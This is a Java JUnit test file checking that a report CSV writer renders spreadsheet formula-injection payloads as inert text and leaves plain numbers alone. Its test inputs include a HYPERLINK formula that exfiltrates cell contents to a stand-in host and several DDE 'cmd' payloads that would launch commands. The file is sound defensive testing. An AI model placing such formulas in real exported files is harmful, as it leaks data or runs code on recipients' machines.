package uk.ictreview.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import uk.ictreview.report.csv.CsvFiles;
import uk.ictreview.report.csv.CsvTable;

/** CSV injection (OWASP): a field a spreadsheet would run as a formula is written as text. */
class HostileOutputCsvTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "=cmd|' /C calc'!A0",
                "+SUM(1,2)",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "=1",
                "-",
            })
    void aFormulaInAnyFieldIsWrittenAsText(String payload) throws Exception {
        String csv = CsvFiles.render(new CsvTable("t", List.of(payload, "Name"), List.of(List.of(payload, payload))));
        for (CSVRecord rec : CSVFormat.RFC4180.parse(new java.io.StringReader(csv))) {
            for (String field : rec) {
                assertThat(Inert.csvField(field)).as("field %s", field).isTrue();
            }
        }
        if (!payload.equals("-")) {
            assertThat(csv).contains("'" + payload.substring(0, 1));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"-302850.00", "+3", "-12.5%", "1,204", "-1,204.50", "Mrs Baxter", "INC-0001"})
    void numbersAndPlainTextAreWrittenAsTheyAre(String value) throws Exception {
        String csv = CsvFiles.render(new CsvTable("t", List.of("Value"), List.of(List.of(value))));
        CSVRecord row = CSVFormat.RFC4180
                .parse(new java.io.StringReader(csv))
                .getRecords()
                .get(1);
        assertThat(row.get(0)).isEqualTo(value);
    }
}
